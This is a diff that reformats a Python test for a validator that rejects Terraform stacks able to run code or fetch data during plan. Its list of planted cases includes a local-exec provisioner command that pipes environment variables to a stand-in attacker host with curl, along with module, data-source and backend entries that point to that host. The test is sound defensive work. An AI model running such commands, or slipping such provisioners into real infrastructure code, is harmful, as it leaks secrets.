@@ -1,5 +1,6 @@
 """`check-stacks`: a pull request's stacks are refused before any plan when they use anything the compiler does not
 emit (each case below is a way to run code or read data during `terraform plan`, tried and refused)."""
+
 import json
 import shutil
 
@@ -25,21 +26,39 @@ def test_the_example_and_every_valid_fixture_pass(example_out, synthesized_fixtu
 
 
 PLANTED = [
-    ("http data source", lambda d: d.setdefault("data", {}).update({"http": {"x": {"url": "https://evil.example"}}}),
-     "s: data source `http` is not allowed"),
-    ("external provider", lambda d: d["terraform"]["required_providers"].update(
-        {"external": {"source": "hashicorp/external"}}), "s: required provider `external` (hashicorp/external) is not allowed (only hashicorp/aws)"),
-    ("aws from another source", lambda d: d["terraform"]["required_providers"].update(
-        {"aws": {"source": "evil/aws", "version": "1.0.0"}}), "s: required provider `aws` (evil/aws) is not allowed (only hashicorp/aws)"),
+    (
+        "http data source",
+        lambda d: d.setdefault("data", {}).update({"http": {"x": {"url": "https://evil.example"}}}),
+        "s: data source `http` is not allowed",
+    ),
+    (
+        "external provider",
+        lambda d: d["terraform"]["required_providers"].update({"external": {"source": "hashicorp/external"}}),
+        "s: required provider `external` (hashicorp/external) is not allowed (only hashicorp/aws)",
+    ),
+    (
+        "aws from another source",
+        lambda d: d["terraform"]["required_providers"].update({"aws": {"source": "evil/aws", "version": "1.0.0"}}),
+        "s: required provider `aws` (evil/aws) is not allowed (only hashicorp/aws)",
+    ),
     ("a second provider block", lambda d: d["provider"].update({"null": [{}]}), "s: provider `null` is not allowed"),
     ("null_resource", lambda d: d["resource"].update({"null_resource": {"x": {}}}), "s: resource type `null_resource` is not allowed"),
-    ("local-exec provisioner", lambda d: d["resource"]["aws_vpc"]["vpc"].update(
-        {"provisioner": [{"local-exec": {"command": "env | curl -d @- evil.example"}}]}),
-     "s: resource aws_vpc.vpc: `provisioner` is not allowed"),
-    ("a module", lambda d: d.update({"module": {"m": {"source": "git::https://evil.example/m"}}}), "s: top-level block `module` is not allowed"),
+    (
+        "local-exec provisioner",
+        lambda d: d["resource"]["aws_vpc"]["vpc"].update({"provisioner": [{"local-exec": {"command": "env | curl -d @- evil.example"}}]}),
+        "s: resource aws_vpc.vpc: `provisioner` is not allowed",
+    ),
+    (
+        "a module",
+        lambda d: d.update({"module": {"m": {"source": "git::https://evil.example/m"}}}),
+        "s: top-level block `module` is not allowed",
+    ),
     ("a check block", lambda d: d.update({"check": {"c": {}}}), "s: top-level block `check` is not allowed"),
-    ("another backend", lambda d: d["terraform"].update({"backend": {"http": {"address": "https://evil.example"}}}),
-     "s: backend `http` is not allowed (only s3)"),
+    (
+        "another backend",
+        lambda d: d["terraform"].update({"backend": {"http": {"address": "https://evil.example"}}}),
+        "s: backend `http` is not allowed (only s3)",
+    ),
     ("terraform cloud", lambda d: d["terraform"].update({"cloud": {"organization": "evil"}}), "s: terraform.cloud is not allowed"),
     ("an unknown variable", lambda d: d.update({"variable": {"token": {}}}), "s: variable `token` is not allowed"),
 ]
